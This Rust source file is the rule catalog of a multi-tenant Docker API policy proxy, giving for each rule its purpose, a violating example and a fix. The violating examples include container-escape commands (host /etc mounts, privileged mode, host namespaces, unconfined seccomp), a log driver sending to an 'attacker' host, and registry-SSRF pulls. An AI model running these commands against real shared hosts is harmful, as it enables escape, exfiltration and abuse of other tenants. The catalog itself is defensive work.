//! The rule catalog: for every rule id the engine, the tower layer or `lint`
//! can report, what it guards against, an example that breaks it and how to
//! comply.
//!
//! `fdcs-policy explain RULE_ID` prints these, and `lint --format sarif`
//! describes its rules from them, so a rule id seen in a denial or a CI
//! report always has a page. The built-in ids ([`RuleId`]'s constants) are
//! generated from this table and nothing else can make one, so an id that is
//! emitted but not documented does not compile; `custom.<id>` (a policy's CEL
//! rules) is the one dynamic case.

use std::borrow::Cow;
use std::fmt;

/// A rule id: one of the catalog's (`RuleId::PORTS_EPHEMERAL_ONLY`) or a
/// policy's custom CEL rule (`custom.<id>`, [`RuleId::custom`]).
///
/// Serializes as the plain string, so JSON, audit lines and SARIF carry
/// `ports.ephemeral-only` as before. Built-in ids can only be named through
/// the constants, never built from text, which is what keeps emitted and
/// documented ids the same set (cedar-policy keys its diagnostics the same
/// way: by a closed type, not by message text).
#[derive(Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct RuleId(Cow<'static, str>);

/// The prefix of a policy's own CEL rules.
pub const CUSTOM_PREFIX: &str = "custom.";

impl RuleId {
    /// The id of a policy's CEL rule `name` (the id as written in the file):
    /// `custom.<name>`.
    pub fn custom(name: &str) -> RuleId {
        RuleId(Cow::Owned(format!("{CUSTOM_PREFIX}{name}")))
    }

    /// Reads an id a user wrote (`explain`, a policy's `lint:` block): a
    /// catalog id, or any `custom.<x>` (whether the policy defines `x` is
    /// the caller's question). `None` for anything else.
    pub fn parse(text: &str) -> Option<RuleId> {
        if let Some(d) = lookup(text) {
            return Some(d.id.clone());
        }
        match text.strip_prefix(CUSTOM_PREFIX) {
            Some(rest) if !rest.is_empty() => Some(RuleId(Cow::Owned(text.to_string()))),
            _ => None,
        }
    }

    /// The id as text (`ports.ephemeral-only`).
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// Whether this is a policy's CEL rule rather than a built-in one.
    pub fn is_custom(&self) -> bool {
        self.0.starts_with(CUSTOM_PREFIX)
    }

    /// The catalog's page for a built-in id; `None` for a custom rule.
    pub fn doc(&self) -> Option<&'static RuleDoc> {
        lookup(self.as_str())
    }

    /// Which part of fdcs emits this id.
    pub fn layer(&self) -> Layer {
        let family = self.0.split('.').next().unwrap_or_default();
        match family {
            "custom" => Layer::Custom,
            "compose" => Layer::Lint,
            "auth" | "upstream" | "body" | "request" | "fair" => Layer::Proxy,
            _ => Layer::Core,
        }
    }

    /// Every built-in id, in catalog order.
    pub fn builtin() -> impl Iterator<Item = &'static RuleId> {
        CATALOG.iter().map(|d| &d.id)
    }
}

/// Which part of fdcs emits a rule id: what judges a request, what serves
/// it, or what reads compose files. Tests use it to know where to show that
/// a documented id is emitted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Layer {
    /// The pure core's verdicts (`fdcs_policy::judge`).
    Core,
    /// The proxy around the core: the tower layer (credentials, bodies, the
    /// engine, fair shares) and `serve`'s listener (`fair.connections`).
    Proxy,
    /// `fdcs-policy lint`'s compose-only checks (`compose.*`).
    Lint,
    /// A policy's own CEL rules (`custom.*`), judged in the core.
    Custom,
}

impl fmt::Display for RuleId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl fmt::Debug for RuleId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(&*self.0, f)
    }
}

impl AsRef<str> for RuleId {
    fn as_ref(&self) -> &str {
        &self.0
    }
}

impl std::ops::Deref for RuleId {
    type Target = str;
    fn deref(&self) -> &str {
        &self.0
    }
}

impl PartialEq<str> for RuleId {
    fn eq(&self, other: &str) -> bool {
        *self.0 == *other
    }
}

impl PartialEq<&str> for RuleId {
    fn eq(&self, other: &&str) -> bool {
        *self.0 == **other
    }
}

impl From<RuleId> for String {
    fn from(id: RuleId) -> String {
        id.0.into_owned()
    }
}

impl serde::Serialize for RuleId {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&self.0)
    }
}

/// Documentation of one rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleDoc {
    /// Stable rule id, as in denials (`ports.ephemeral-only`).
    pub id: RuleId,
    /// One-line title.
    pub title: &'static str,
    /// What the rule guards against, and why it matters in a shared engine.
    pub guards: &'static str,
    /// A command, compose snippet or request that breaks it.
    pub example: &'static str,
    /// What to do instead.
    pub comply: &'static str,
}

/// Every documented rule: engine rules, then the tower layer's, then
/// compose checks.
pub fn catalog() -> &'static [RuleDoc] {
    CATALOG
}

/// The documentation of one rule id.
pub fn lookup(id: &str) -> Option<&'static RuleDoc> {
    CATALOG.iter().find(|d| d.id.as_str() == id)
}

/// One table, two outputs: an associated constant of [`RuleId`] per entry,
/// and the entry in [`CATALOG`] keyed by that same constant.
macro_rules! catalog {
    ($($name:ident = $id:literal, $title:literal, $guards:literal, $example:literal, $comply:literal $(,)?;)*) => {
        impl RuleId {
            $(
                #[doc = concat!("`", $id, "`: ", $title, " (see [`catalog`]).")]
                pub const $name: RuleId = RuleId(Cow::Borrowed($id));
            )*
        }

        static CATALOG: &[RuleDoc] = &[$(
            RuleDoc {
                id: RuleId::$name,
                title: $title,
                guards: $guards,
                example: $example,
                comply: $comply,
            },
        )*];
    };
}

catalog! {
    ROUTE_UNKNOWN = "route.unknown", "unknown endpoint", "Default deny: a method and path the route table does not know is refused, so a new or undocumented daemon endpoint is never reachable by accident.", "POST /v1.41/plugins/pull?remote=evil/plugin", "Use the Docker commands fdcs supports (containers, networks, volumes, exec, images you may pull); ask the operator if you need another endpoint.";
    ROUTE_AMBIGUOUS = "route.ambiguous", "ambiguous path", "Paths the daemon's router could read differently from fdcs (percent-encoded slashes, dot segments, doubled slashes) are refused instead of guessed, closing path-confusion bypasses.", "GET /v1.41/containers/..%2Fother/json", "Send plain, canonical paths as the docker CLI and SDKs do.";
    ROUTE_VERSION = "route.version", "unsupported API version", "Requests with a `/vX.Y` prefix older or newer than the policy supports are refused: old versions accept legacy body layouts that would dodge the decoder.", "GET /v1.12/containers/json", "Use a client speaking API 1.24 or later (any current docker CLI; set DOCKER_API_VERSION if you pinned an old one).";
    DECODE_MALFORMED = "decode.malformed", "malformed body", "A body that is not the JSON the endpoint expects cannot be judged, so it is refused rather than forwarded unjudged.", "POST /v1.41/containers/create with body `{\"Image\": \"busybox\",`", "Send a well-formed JSON body; the docker CLI and compose always do.";
    DECODE_UNKNOWN_FIELD = "decode.unknown-field", "unknown field", "A field the engine model does not know is denied by name: passing it through would let a newer daemon feature bypass every rule.", "{\"Image\":\"busybox\",\"HostConfig\":{\"FutureEscape\":true}}", "Remove the field, or ask the operator to upgrade fdcs if your client needs it.";
    DECODE_AMBIGUOUS = "decode.ambiguous", "ambiguous body", "Keys the Go decoder would fold together (case variants, duplicates) are resolved exactly as the daemon does; where fdcs cannot be sure which value wins, it refuses.", "{\"HostConfig\":{\"Privileged\":false,\"privileged\":true}}", "Send each field once, in its documented spelling.";
    PORTS_EPHEMERAL_ONLY = "ports.ephemeral-only", "explicit host ports", "A tenant publishing a fixed host port could squat on ports other tenants or the host need; only daemon-assigned ephemeral ports are allowed.", "docker run -p 80:80 nginx   # compose: ports: [\"80:80\"]", "Publish with -P or `-p 80` (compose: `ports: [\"80\"]`) and read the assigned port with `docker port`.";
    MOUNTS_NO_HOST_PATH = "mounts.no-host-path", "host bind mounts", "A bind mount of a host path (Binds, Mounts, or a local volume with o=bind) reads or writes the host file system: the classic container escape.", "docker run -v /etc:/x busybox   # compose: volumes: [\"/etc:/x\"]", "Use a named volume (`-v data:/x`, compose `volumes: [\"data:/x\"]`) and copy files in with `docker cp`.";
    MOUNTS_VOLUME_DRIVER = "mounts.volume-driver", "volume driver", "Volume drivers and their options can mount host paths or remote storage outside the tenant's control; only the drivers the policy lists are allowed.", "docker volume create -d local -o type=none -o o=bind -o device=/etc v", "Create volumes with the default `local` driver and no bind options.";
    PRIVILEGES_PRIVILEGED = "privileges.privileged", "privileged mode", "`--privileged` gives the container every capability and every device: full control of the host.", "docker run --privileged busybox   # compose: privileged: true", "Remove privileged mode; if a feature needs one capability, ask the operator to allow it.";
    PRIVILEGES_CAPABILITIES = "privileges.capabilities", "added capabilities", "Added capabilities (SYS_ADMIN, NET_ADMIN, SYS_PTRACE, ...) widen the kernel surface a container can reach; only the policy's list may be added.", "docker run --cap-add SYS_ADMIN busybox   # compose: cap_add: [SYS_ADMIN]", "Drop `--cap-add`/`cap_add`; dropping capabilities (`cap_drop`) is always fine.";
    PRIVILEGES_DEVICES = "privileges.devices", "host devices", "Passing host devices (`/dev/sda`, `/dev/mem`) into a container gives direct hardware and host-data access.", "docker run --device /dev/sda busybox   # compose: devices: [\"/dev/sda\"]", "Remove devices; use volumes for data.";
    PRIVILEGES_SECURITY_OPT = "privileges.security-opt", "security options", "`seccomp=unconfined`, `apparmor=unconfined` or `label=disable` switch off the kernel filters that contain a container.", "docker run --security-opt seccomp=unconfined busybox", "Remove the option; `no-new-privileges` is allowed and recommended.";
    PRIVILEGES_SYSCTLS = "privileges.sysctls", "sysctls", "Namespaced sysctls can still weaken the host network stack or other tenants; none are allowed unless the policy lists them.", "docker run --sysctl net.ipv4.ip_forward=1 busybox", "Remove `--sysctl`/`sysctls`.";
    PRIVILEGES_PATHS = "privileges.paths", "masked and read-only paths", "Unmasking `/proc` paths (MaskedPaths, ReadonlyPaths, `systempaths=unconfined`) exposes host kernel state.", "docker run --security-opt systempaths=unconfined busybox", "Keep the default masked paths.";
    PRIVILEGES_CGROUP_PARENT = "privileges.cgroup-parent", "cgroup parent", "A custom cgroup parent moves the container out of the limits the operator set for tenants.", "docker run --cgroup-parent /system.slice busybox", "Remove `--cgroup-parent`/`cgroup_parent`.";
    PRIVILEGES_RUNTIME = "privileges.runtime", "runtime override", "Choosing another OCI runtime can pick one with weaker isolation or host access.", "docker run --runtime runc-debug busybox", "Use the daemon's default runtime.";
    PRIVILEGES_LOG_DRIVER = "privileges.log-driver", "log driver", "Log drivers can write to host paths or send logs to arbitrary endpoints; only the daemon default (or listed drivers) is allowed.", "docker run --log-driver syslog --log-opt syslog-address=udp://attacker busybox", "Remove `--log-driver`/`logging.driver`.";
    PRIVILEGES_OOM_SCORE_ADJ = "privileges.oom-score-adj", "OOM-killer protection", "A negative OOM score adjustment makes the host's OOM killer pick other tenants' processes before this container's.", "docker run --oom-score-adj -1000 busybox", "Remove `--oom-score-adj`/`oom_score_adj`, or use a value of 0 or more.";
    NAMESPACES_NO_HOST = "namespaces.no-host", "host namespaces", "Sharing the host's network, pid, ipc, uts, user or cgroup namespace lets a container see and touch host processes and interfaces.", "docker run --net host busybox   # compose: network_mode: host", "Use the tenant's own networks (the default) and the container's own namespaces.";
    RESOURCES_MEMORY = "resources.memory", "memory limit", "Without a memory ceiling one tenant can exhaust the host; limits above the tenant's ceiling are refused and a default is injected when absent.", "docker run -m 64g busybox", "Set a memory limit at or below your ceiling (`-m 512m`, compose `mem_limit: 512m`), or none to get the default.";
    RESOURCES_CPU = "resources.cpu", "CPU limit", "Without a CPU ceiling one tenant can starve the others; above the ceiling is refused, a default is injected when absent.", "docker run --cpus 64 busybox", "Set `--cpus`/`cpus` at or below your ceiling, or none to get the default.";
    RESOURCES_PIDS = "resources.pids", "pids limit", "A fork bomb in one container can exhaust the host's pid table; `PidsLimit` 0 or -1 means unlimited and is treated as absent.", "docker run --pids-limit -1 busybox", "Set `--pids-limit`/`pids_limit` at or below your ceiling, or none to get the default.";
    BOUNDS_PORTS = "bounds.ports", "published and exposed ports", "Every published port is a host port and a `docker-proxy` process outside the container's cgroups (two with IPv6); one create with 100 exposed ports and -P took 200. Ports published per container (each binding entry, ranges counted in full, and what -P publishes of `ExposedPorts`) and ports exposed are bounded by the policy.", "docker run -P --expose 8000-9000 busybox", "Publish only the ports clients must reach (`-p 80`), and reach the rest over the tenant's own network.";
    BOUNDS_TMPFS = "bounds.tmpfs", "tmpfs and /dev/shm size", "A tmpfs without `size=` may grow to half the host's RAM. Each tmpfs mount and `/dev/shm` gets a size (injected when absent, under a ceiling), and together they must fit in the container's memory limit. Spellings the kernel reads differently (`size=0`, `%`, octal, hex, `nr_blocks=`, two sizes) are refused.", "docker run -m 128m --tmpfs /x:size=1g busybox", "Give each tmpfs a size that fits (`--tmpfs /x:size=64m`, compose `tmpfs: {size: 64m}`), or raise -m.";
    VOLUMES_TMPFS = "volumes.tmpfs", "tmpfs volumes", "A `local` volume of type tmpfs keeps its memory after every container is gone, charged to no container. It needs an `o=size=` under the policy's ceiling (injected when absent), or is refused when the policy allows none.", "docker volume create -o type=tmpfs -o device=tmpfs -o o=size=1g v", "Give it `-o o=size=64m` or less, or use `--tmpfs` on the container.";
    VOLUMES_ANONYMOUS = "volumes.anonymous", "anonymous volumes", "A volume the daemon makes for a create (`Config.Volumes`, a lone `/path` in `Binds`, a volume mount without a source, the image's `VOLUME`) would carry no owner label: no tenant could list, count or remove it, and 40 of them stayed after `docker rm`. Each one is mounted explicitly as a volume the daemon creates with the tenant's owner label (listed, counted in `quota.volumes`, removed by `docker rm -v`, `--rm` and `volume prune`); a path the daemon would mount it on but cannot read as one (relative, `/`) is refused.", "docker run -v data busybox   # a relative path: an anonymous volume nowhere", "Mount anonymous volumes on absolute paths (`-v /data`), or name them (`-v data:/data`).";
    BOUNDS_LOGS = "bounds.logs", "log disk", "`json-file` keeps every log line unless told `max-size`, on the engine's disk. For `json-file` and `local`, `max-size` and `max-file` are injected when absent and bounded; a container that names no log driver gets the policy's driver so that they can be; the daemon's log buffer (`max-buffer-size`) is bounded too.", "docker run --log-opt max-size=1000g busybox", "Use `--log-opt max-size=10m --log-opt max-file=3` or less, or set none to get the defaults.";
    BOUNDS_CPU_WEIGHT = "bounds.cpu-weight", "CPU and block-IO weight", "`CpuShares` and `BlkioWeight` decide who wins under contention: `--cpu-shares 262144` takes about 99.6% of a contended CPU. Both are bounded so that no container gets more than one that sets none.", "docker run --cpu-shares 262144 busybox", "Leave `--cpu-shares` and `--blkio-weight` unset, or set them at or below the ceiling.";
    BOUNDS_REALTIME = "bounds.realtime", "realtime CPU", "A realtime task runs before every normal one on its CPU and can starve the host; `CpuRealtimeRuntime`, `CpuRealtimePeriod` and a non-zero `rtprio` ulimit are refused unless the policy allows them.", "docker run --cpu-rt-runtime 950000 --ulimit rtprio=99 busybox", "Drop `--cpu-rt-runtime`, `--cpu-rt-period` and `--ulimit rtprio`.";
    BOUNDS_HEALTHCHECK = "bounds.healthcheck", "health-check frequency", "Each health check is an exec the daemon spawns; one every millisecond is a process storm run for the tenant. Interval, start interval, timeout and start period have minimums (0 is the engine's default) and retries a maximum; `NONE` is always fine.", "docker run --health-cmd true --health-interval 1ms busybox", "Use `--health-interval 1s` or more (compose `healthcheck: {interval: 30s}`), or leave it unset.";
    QUOTA_CONTAINERS = "quota.containers", "containers per tenant", "Every container, running or not, holds engine state, a writable layer and log files; one tenant's hundreds would crowd everyone's disk and the daemon's memory. Counted from the engine (the tenant's owner-labelled containers) when a container is created.", "for i in $(seq 100); do docker create busybox; done", "Remove containers you no longer need (`docker rm`, `docker container prune`), or ask the operator for a larger quota.";
    QUOTA_MEMORY = "quota.memory", "memory per tenant", "Each container is capped, but 33 capped containers took 33 GiB of a 23.5 GiB host. The memory limits of a tenant's running, paused and restarting containers must fit its quota, checked at create, start, restart, unpause and update.", "docker run -d -m 1g busybox sleep 1d   # the fifth, with a 4 GiB quota", "Stop or remove a container, use smaller limits (`-m 256m`), or ask the operator for a larger quota.";
    QUOTA_CPUS = "quota.cpus", "CPUs per tenant", "The CPU limits of a tenant's running containers must fit its quota, so that 33 two-CPU containers cannot claim 66 CPUs of a 2-CPU host.", "docker run -d --cpus 2 busybox sleep 1d   # the third, with a 4-CPU quota", "Stop or remove a container, use a smaller `--cpus`, or ask the operator for a larger quota.";
    QUOTA_PIDS = "quota.pids", "pids per tenant", "The pids limits of a tenant's running containers must fit its quota: 33 containers at 1,024 pids each exceed the host's `pid_max` of 32,768.", "docker run -d --pids-limit 1024 busybox sleep 1d   # the third, with a 2,048 quota", "Stop or remove a container, use a smaller `--pids-limit`, or ask the operator for a larger quota.";
    QUOTA_PORTS = "quota.ports", "published ports per tenant", "Each published port is a host port and a `docker-proxy` process; the ports a tenant's running containers publish must fit its quota.", "docker run -d -P nginx   # again and again", "Stop containers you do not need, publish fewer ports, or ask the operator for a larger quota.";
    QUOTA_VOLUMES = "quota.volumes", "volumes per tenant", "Volumes outlive containers and hold disk; the tenant's owner-labelled volumes are counted when one is created.", "for i in $(seq 100); do docker volume create v$i; done", "Remove volumes you no longer need (`docker volume rm`, `docker volume prune`), or ask the operator for a larger quota.";
    QUOTA_NETWORKS = "quota.networks", "networks per tenant", "Each network takes a subnet out of the daemon's shared address pools (31 /20s for everybody by default); the tenant's networks, its default one included, are counted when one is created.", "for i in $(seq 10); do docker network create n$i; done", "Remove networks you no longer need (`docker network rm`), share one network between services, or ask the operator for a larger quota.";
    NETWORKS_DRIVER = "networks.driver", "network drivers and options", "Network drivers other than `bridge` (macvlan, ipvlan, overlay), IPAM drivers and driver options can attach a container to host interfaces or other tenants' segments; only a plain bridge network is allowed.", "docker network create -d macvlan -o parent=eth0 n", "Create a plain bridge network: `docker network create NAME` (compose: a network with no `driver`).";
    NETWORKS_PREDEFINED = "networks.predefined", "predefined networks", "`bridge`, `host` and `none` exist on every engine and are never removed; a tenant's `bridge` is its own default network. Refused with the daemon's own 403 and words, so nothing is forwarded.", "docker network rm bridge", "Remove only networks you created.";
    IMAGES_ALLOWED = "images.allowed", "allowed images", "Only images matching the policy's patterns may run, so tenants run vetted software only.", "docker run evil/miner", "Use an image from the allowed list (`fdcs-policy check` shows the patterns in the denial).";
    IMAGES_BUILD = "images.build", "image builds", "`docker build` runs arbitrary build steps on the shared daemon and can fetch remote contexts; refused unless the policy allows builds.", "docker build -t x .   # compose: build: .", "Build in CI and pull the image from an allowed registry.";
    IMAGES_PULL = "images.pull", "image pull", "Pulling stores images on the shared daemon; only the references the policy allows may be pulled, so tenants cannot bring in unvetted software or fill the disk.", "docker pull evil/miner", "Pull an image the policy allows, or ask the operator to add it.";
    IMAGES_PUSH = "images.push", "image push", "Pushing from the shared daemon could exfiltrate other tenants' images.", "docker push registry.example/x", "Push from your own build environment.";
    IMAGES_REGISTRY = "images.registry", "allowed registries", "The daemon contacts a registry from the host's network and follows its redirects and auth realms to any URL; only registries the operator listed may be contacted, so a tenant cannot make the host reach its internal services or a metadata endpoint. IP literals in any spelling, localhost and trailing dots count only when listed exactly.", "docker pull 127.0.0.1:5000/x   # or 2130706433:5000/x, [::1]:5000/x", "Use an image from a listed registry (the denial names them), or ask the operator to add your registry to rules.images.registries or your tenant's limits.registries.";
    IMAGES_CREDENTIALS = "images.credentials", "registry credentials", "X-Registry-Auth and X-Registry-Config carry credentials and identity tokens the daemon sends on; they are decoded and judged like a body, and may only name the registry the request goes to.", "docker pull busybox with X-Registry-Auth {\"identitytoken\":\"x\",\"serveraddress\":\"evil.example\"}", "Log in to the registry you pull from (docker login HOST) and let the CLI send its credentials.";
    IMAGES_RESERVED = "images.reserved", "fdcs's image records", "fdcs records which tenant pulled a private image as a tag under the reserved registry `fdcs.invalid`; naming it directly could forge or read another tenant's record.", "docker run fdcs.invalid/beta/reg.example/app:1", "Name the image as you pulled it.";
    IMAGES_REFERENCE = "images.reference", "image references", "An image name the engine's reference grammar would not read as fdcs reads it cannot be judged, so it is refused.", "docker pull 'Busybox:latest'", "Name images as `name[:tag]` or `name@digest`, lowercase.";
    IMAGES_PRIVATE = "images.private", "private images", "An image from a registry the policy does not share exists only for the tenants that pulled it; fdcs must be able to record the pull (a name too long for a tag cannot be).", "docker pull reg.example/<a very long name>:1", "Pull by a shorter name, or ask the operator to share the registry.";
    IMAGES_MANAGE = "images.manage", "image management", "Images are shared by all tenants: tag, commit, import, load, save and delete affect everyone. An image prune (and, without builds, a build-cache prune) never reaches the engine: fdcs answers it with the daemon's report of nothing removed, since nothing it would remove is the tenant's, so `docker system prune` completes.", "docker rmi busybox", "Ask the operator; tenants only pull and use images.";
    EXEC_PRIVILEGED = "exec.privileged", "privileged exec", "`docker exec --privileged` gives a process full capabilities inside an otherwise confined container.", "docker exec --privileged web sh", "Exec without `--privileged`.";
    SWARM_DISABLED = "swarm.disabled", "swarm services", "Services, tasks, secrets and configs run on the operator's Swarm cluster; they are refused unless the policy enables them (`rules.swarm.enabled`).", "docker service create busybox", "Run containers (`docker run`, `docker-compose up`), or ask the operator to enable Swarm services.";
    SWARM_SPEC = "swarm.spec", "service specs", "A service spec is judged by the same rules as a container; parts of it that would run something fdcs cannot judge (plugin and network-attachment runtimes, generic resources, secret store drivers) are refused.", "a ServiceSpec with TaskTemplate.PluginSpec", "Use a replicated service of containers (`docker service create IMAGE`, compose `deploy:`).";
    SWARM_PLACEMENT = "swarm.placement", "service placement", "A tenant's tasks run only on the nodes the operator gave it (a node pool, by node labels) and never on managers unless allowed; constraints that would leave the pool are refused.", "docker service create --constraint node.role==manager busybox", "Drop the constraint; fdcs adds the pool's own.";
    SWARM_NETWORKS = "swarm.networks", "service networks", "A task on the shared `bridge`, `host` or `ingress` network can reach other tenants' tasks; services attach only to the tenant's own overlay networks (its default one when none is given), and published ports are the task's own (`mode: host`, a port the engine picks).", "docker service create --network host busybox", "Attach services to your own overlay networks (`docker network create -d overlay NAME`), and publish with `-p 80`.";
    SYSTEM_ADMIN = "system.admin", "daemon administration", "Swarm init/join, plugins, daemon-wide prune and similar endpoints change the engine for every tenant.", "docker swarm init", "Ask the operator.";
    SYSTEM_SESSION = "system.session", "sessions and gRPC", "`/session` and `/grpc` open raw streams (BuildKit) the proxy cannot judge.", "DOCKER_BUILDKIT=1 docker build .", "Use classic builds only where allowed, or build elsewhere.";
    TENANCY_RESERVED_LABEL = "tenancy.reserved-label", "reserved labels", "Ownership lives in engine-side labels only fdcs writes; a tenant setting, changing or filtering on them could claim another tenant's resources.", "docker run --label fdcs.tenant=other busybox", "Use your own label names; never the `fdcs.` prefix.";
    TENANCY_FILTER = "tenancy.filter", "filters on reserved labels", "A list filter on ownership labels could reveal or widen what a tenant sees.", "docker ps --filter label=fdcs.tenant=other", "Filter on your own labels or names.";
    TENANCY_NAME = "tenancy.name", "resource names", "Names are scoped per tenant (`<tenant>_<name>` on the engine); a name the engine would reject, or that could not be scoped injectively, is refused before anything is created.", "docker run --name '../web' busybox", "Use 2 to 200 characters from [a-zA-Z0-9_.-], starting with a letter or digit; fdcs scopes the name for you.";
    TENANCY_NOT_FOUND = "tenancy.not-found",
        "not owned (reported as not found)",
        "A reference to a container, network or volume the tenant does not own is answered exactly as the daemon answers a missing one, so other tenants' resources cannot be discovered. `lint` reports such a denial under this id (the engine's denial carries no rule id, on purpose).",
        "services:\n  app:\n    image: busybox\n    network_mode: container:someone_elses_db",
        "Reference only resources of your own project (services, networks and volumes it declares) or that you created yourself."
    ;
    JUDGE_UNDECIDED = "judge.undecided", "undecided request", "The core asks the engine for facts (ownership lookups) before it decides; a request that still needs more after the bounded number of rounds is refused, never forwarded undecided.", "a request naming more resources than the lookup rounds can resolve", "Name fewer resources in one request, or report it to the operator.";
    BODY_TOO_LARGE = "body.too-large", "body too large", "Bodies are read whole (bounded) to be judged; an oversized body is refused so memory stays bounded.", "a 100 MiB container create body", "Send normal-sized requests; large data belongs in volumes or images.";
    REQUEST_MALFORMED = "request.malformed", "unreadable request", "A request whose body could not be read (connection reset, not received in time) or whose judged form cannot be sent is refused with 400 or 408, nothing forwarded.", "a client that stops sending half-way through a body", "Retry; send the whole body promptly.";
    AUTH_MISSING = "auth.missing", "missing credentials", "Every request must say which tenant sends it (`X-Auth-Token`, `X-Auth-TenantId`).", "docker ps with no HttpHeaders in ~/.docker/config.json", "Add `\"HttpHeaders\": {\"X-Auth-Token\": \"...\", \"X-Auth-TenantId\": \"...\"}` to ~/.docker/config.json.";
    AUTH_INVALID = "auth.invalid", "invalid credentials", "A token the identity service rejects, or one not valid for the claimed tenant, is refused.", "an expired token", "Get a fresh token for your tenant.";
    AUTH_ROLE = "auth.role", "identity roles", "A Keystone token carries the user's roles on the project; `reader` may only read (lists, inspects, logs, stats, events), `member` and `admin` may do everything the policy allows (`serve --keystone-read-roles/--keystone-write-roles`). A token with none of them is refused (403) with the role it needs.", "docker run busybox with a token whose user has only `reader` on the project", "Ask the project's administrator for the `member` role, or only read.";
    AUTH_CERTIFICATE = "auth.certificate", "client certificate identity", "With `serve --tls-client-ca` and tenants named by certificate (the tenants file's `certificates:`: a subject CN, a SAN or the key's SHA-256), a client certificate is the tenant: no headers needed. A certificate that names no tenant, or more than one, is refused, and so are `X-Auth-TenantId` headers that name another tenant than the certificate.", "docker --tlsverify --tlscert mallory.pem ps  (a certificate of the CA that no tenant lists)", "Use the certificate the operator issued for your tenant, and drop the X-Auth-* HttpHeaders (the certificate is enough).";
    AUTH_UNAVAILABLE = "auth.unavailable", "identity service unavailable", "Fail closed: when the identity service cannot be reached, nothing is forwarded.", "any request while Keystone is down", "Retry later; tell the operator if it persists.";
    UPSTREAM_UNAVAILABLE = "upstream.unavailable", "engine unavailable", "Fail closed: when the engine (or an ownership lookup) fails, the request is refused, never forwarded unjudged.", "any request while dockerd is down", "Retry later; tell the operator if it persists.";
    UPSTREAM_TIMEOUT = "upstream.timeout", "engine too slow to answer", "An engine that accepts a request and never answers would hold the client, its connection and the tenant's share for ever; the engine must start its answer (status and headers) within serve's --upstream-header-timeout (60 s) of being sent the request, and a lookup must complete within 30 s, else 504 and nothing more is sent. Streams (logs -f, events, wait, attach, exec) are bounded only until they start.", "any request while dockerd is frozen (a stuck storage driver, a hung daemon)", "Retry later; tell the operator if it persists (the engine is stuck, or a slow operation needs a larger --upstream-header-timeout).";
    FAIR_CONCURRENCY = "fair.concurrency", "requests in flight per tenant", "One tenant's requests in flight (a streamed answer such as `logs -f`, `events` or `stats` until it ends) are bounded so that it cannot take all of the proxy's and the engine's capacity; refused with 429 and `Retry-After`.", "65 parallel `docker logs -f`", "Wait for some requests to finish, then retry; ask the operator for a larger share.";
    FAIR_RATE = "fair.rate", "requests per second per tenant", "A token bucket per tenant bounds its request rate, so one busy client does not slow every tenant's; refused with 429 and `Retry-After`.", "a loop sending `docker ps` as fast as it can", "Retry after a moment, or send fewer requests at once.";
    FAIR_STREAMS = "fair.streams", "attach and exec streams per tenant", "Each attach or exec stream holds a hijacked connection on the proxy and the engine; a tenant's open streams are bounded (429 with `Retry-After`).", "33 `docker exec -it web sh` at once", "End a stream (leave an exec, detach from an attach), then retry.";
    FAIR_MEMORY = "fair.memory", "buffered engine answers per tenant", "Engine answers read whole (lookups, rewritten lists and inspects) take proxy memory; the bytes held for one tenant at once are bounded (503 with `Retry-After`).", "many parallel `docker ps -a` over thousands of containers", "Retry later; filter lists to what you need.";
    FAIR_CONNECTIONS = "fair.connections", "connections per client address", "Open connections from one client address (IPv6: a /64) are counted at accept and bounded, so one host cannot exhaust the proxy's file descriptors (503, then closed).", "257 idle connections from one address", "Reuse connections (the docker CLI does), or ask the operator to raise `--max-connections-per-address`.";
    COMPOSE_MEMORY_UNSET = "compose.memory-unset", "memory limit unset", "Without `mem_limit` (or `deploy.resources.limits.memory`) the service gets the tenant default; set it to make the budget explicit (KICS: Memory Not Limited).", "services:\n  web:\n    image: nginx", "Add `mem_limit: 256m` (or `deploy.resources.limits.memory`).";
    COMPOSE_CPUS_UNSET = "compose.cpus-unset", "CPU limit unset", "Without `cpus` (or `deploy.resources.limits.cpus`) the service gets the tenant default (KICS: Cpus Not Limited).", "services:\n  web:\n    image: nginx", "Add `cpus: 0.5` (or `deploy.resources.limits.cpus`).";
    COMPOSE_PIDS_UNSET = "compose.pids-unset", "pids limit unset", "Without `pids_limit` a fork bomb is bounded only by the tenant default (KICS: Pids Limit Not Set).", "services:\n  web:\n    image: nginx", "Add `pids_limit: 100` (or `deploy.resources.limits.pids`).";
    COMPOSE_NO_NEW_PRIVILEGES = "compose.no-new-privileges", "no-new-privileges unset", "Without `no-new-privileges`, setuid binaries can raise privileges inside the container (KICS: No New Privileges Not Set).", "services:\n  web:\n    image: nginx", "Add `security_opt: [\"no-new-privileges:true\"]`.";
    COMPOSE_IMAGE_LATEST = "compose.image-latest", "unpinned image", "An image without a tag or with `latest` changes under you; CI results stop meaning anything (KICS: Image Version Not Explicit).", "image: nginx", "Pin a tag or digest: `image: nginx:1.27.2`.";
    COMPOSE_HEALTHCHECK_UNSET = "compose.healthcheck-unset", "healthcheck unset", "Without a healthcheck, dependants start against a service that is not ready and failures go unnoticed (KICS: Healthcheck Not Set).", "services:\n  web:\n    image: nginx", "Add a `healthcheck:` with a `test:`.";
    COMPOSE_UNRESOLVED_VARIABLE = "compose.unresolved-variable", "unresolved variable in a sensitive field", "Compose replaces an unset variable with an empty string; in a host path, a port or a privilege that silently changes meaning (`${DATA}/x:/x` becomes `/x:/x`, a host bind of `/x`).", "volumes: [\"${DATA_DIR}/db:/var/lib/db\"]   # DATA_DIR unset", "Set the variable (environment, `.env` or `--env-file`), give it a safe default `${DATA_DIR:-dbdata}`, or require it with `${DATA_DIR:?set DATA_DIR}`.";
    COMPOSE_REQUIRED_VARIABLE = "compose.required-variable", "required variable unset", "`${VAR:?message}` with the variable unset: compose refuses to start the project.", "image: \"app:${TAG:?set TAG}\"", "Set the variable in the environment, `.env` or `--env-file`.";
    COMPOSE_UNSET_VARIABLE = "compose.unset-variable", "unset variable", "An unset variable becomes an empty string; harmless in most fields but usually a mistake.", "environment: [\"MODE=${MODE}\"]", "Set it, or give a default with `${MODE:-prod}`.";
